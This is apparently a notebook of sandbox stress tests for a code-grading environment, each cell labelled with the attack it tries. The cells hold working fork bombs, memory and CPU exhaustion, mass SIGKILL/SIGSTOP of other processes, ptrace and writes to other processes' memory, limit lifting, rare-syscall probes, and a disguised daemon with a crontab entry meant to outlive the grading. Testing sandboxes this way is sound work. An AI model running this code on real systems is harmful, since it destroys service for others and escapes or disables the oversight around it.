# %% [markdown]
# # Processes, memory and time
#
# Too many processes are seen when somebody looks; on a busy machine their time may be over first.

# %% attack="fork_bomb" status="partial" tries="fork without end"
import os

while True:
    os.fork()

# %% attack="sleepers" status="partial" tries="start hundreds of processes that sleep"
import os
import time

for _ in range(500):
    if os.fork() == 0:
        os.setsid()
        time.sleep(1000)
time.sleep(3)

# %% attack="shell_bomb" status="partial" tries="fork without end from a shell"
import time

get_ipython().system("bash -c 'f() { f | f & }; f; sleep 5'")
time.sleep(3)

# %% attack="threads" tries="start threads until there is no room"
import threading
import time

try:
    for i in range(30_000):
        threading.Thread(target=time.sleep, args=(1,), daemon=True).start()
except RuntimeError as error:
    print(i, error)

# %% attack="memory" tries="take all the memory"
held = []
try:
    while True:
        held.append(bytearray(2**26))
except MemoryError:
    print(len(held))
    del held

# %% attack="memory_in_processes" status="partial" tries="take more memory in many processes than one may have"
import os
import time

for _ in range(8):
    if os.fork() == 0:
        held = bytearray(b"x") * (700 * 2**20)
        time.sleep(8)
        os._exit(0)
time.sleep(5)

# %% attack="shared_memory" status="partial" tries="take memory that no process owns alone, in several processes"
import mmap
import os
import time

for _ in range(6):
    if os.fork() == 0:
        held = mmap.mmap(-1, 700 * 2**20)
        for start in range(0, len(held), 2**20):
            held[start : start + 2**20] = b"x" * 2**20
        time.sleep(600)
time.sleep(600)

# %% attack="shared_memory_alone" status="partial" tries="take memory that no limit of a process counts"
import mmap

held = []
try:
    for _ in range(64):
        held.append(mmap.mmap(-1, 2**27))
        for start in range(0, 2**27, 2**24):
            held[-1][start : start + 2**24] = b"x" * 2**24
except (OSError, MemoryError, ValueError) as error:
    print(error)
print(len(held) * 2**27)
del held

# %% attack="processors" status="partial" tries="keep all processors busy so that others run out of time"
import os
import time

for _ in range(55):
    if os.fork() == 0:
        os.setsid()
        end = time.monotonic() + 8
        while time.monotonic() < end:
            pass
        os._exit(0)
time.sleep(6)

# %% attack="signals" status="partial" tries="kill every process that it can name"
import os
import signal
import time

for pid in [*range(2, 70_000), os.getppid(), 1, -1]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
os.kill(-1, signal.SIGTERM)
os.kill(0, signal.SIGKILL)

# %% attack="stop_the_parent" status="partial" tries="stop whoever watches it, then itself"
import os
import signal

for pid in (os.getppid(), 1, *(int(name) for name in os.listdir("/proc") if name.isdigit())):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError as error:
            print(pid, error)
os.kill(os.getpid(), signal.SIGSTOP)

# %% attack="trace" tries="trace other processes and write in their memory"
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for pid in [1, os.getppid(), *(int(name) for name in os.listdir("/proc") if name.isdigit())]:
    if pid == os.getpid():
        continue
    for request in (16, 0x4206):  # attach, seize
        print(pid, libc.ptrace(request, pid, None, None), os.strerror(ctypes.get_errno()))
    here = (ctypes.c_size_t * 2)(id(pid), 8)
    print(libc.process_vm_readv(pid, here, 1, here, 1, 0), libc.process_vm_writev(pid, here, 1, here, 1, 0))
    try:
        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
            memory.seek(id(pid))
            print("wrote", memory.write(b"0"))
    except OSError as error:
        print(error)

# %% attack="daemon" tries="outlive the grading as a daemon with another name"
import os
import subprocess
import sys

wait = "import signal, time; [signal.signal(n, signal.SIG_IGN) for n in (1, 2, 15)]; time.sleep(600)"
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.chdir("/")
        os.closerange(0, 1024)
        os.execv(sys.executable, ["@marker@", "-c", wait])
    os._exit(0)
subprocess.Popen(["setsid", "nohup", "sh", "-c", "sleep 600 # @marker@"], start_new_session=True)
subprocess.run("nohup setsid sleep 600 @marker@ >/dev/null 2>&1 & disown", shell=True, executable="/bin/bash")
subprocess.run("(crontab -l; echo '* * * * * touch /tmp/@marker@') | crontab -; echo touch /tmp/@marker@ | at now", shell=True)
subprocess.run("systemd-run --user sleep 600 @marker@", shell=True)

# %% attack="priorities" tries="run before all others and lift its own limits"
import ctypes
import os
import resource

for what in (resource.RLIMIT_DATA, resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE):
    try:
        resource.setrlimit(what, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        print("lifted", what)
    except (OSError, ValueError) as error:
        print(error)
for call in (lambda: os.nice(-20), lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99))):
    try:
        call()
        print("raised")
    except OSError as error:
        print(error)

# %% attack="deaf_loop" status="partial" says="did not end in time" tries="never end, deaf to every signal"
import signal

for number in range(1, 32):
    try:
        signal.signal(number, signal.SIG_IGN)
    except OSError:
        pass
while True:
    pass

# %% attack="flood" status="partial" says="did not end in time" tries="write without end, so that nobody has time to look at the clock"
import sys
import threading

from IPython.display import display


def shout():
    while True:
        display({"text/plain": "x" * 1000}, raw=True)


for _ in range(4):
    threading.Thread(target=shout, daemon=True).start()
shout()

# %% attack="forbidden_calls" tries="use rarer calls of Linux: memory files, keys, shared segments, bpf, io_uring"
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
numbers = {"memfd_create": 319, "add_key": 248, "shmget": 29, "bpf": 321, "io_uring_setup": 425, "userfaultfd": 323}
numbers |= {"kexec_load": 246, "init_module": 175, "reboot": 169, "perf_event_open": 298, "clone3": 435, "swapon": 167}
for name, number in numbers.items():
    print(name, libc.syscall(number, b"user", b"@marker@", b"x", 1, -5), os.strerror(ctypes.get_errno()))
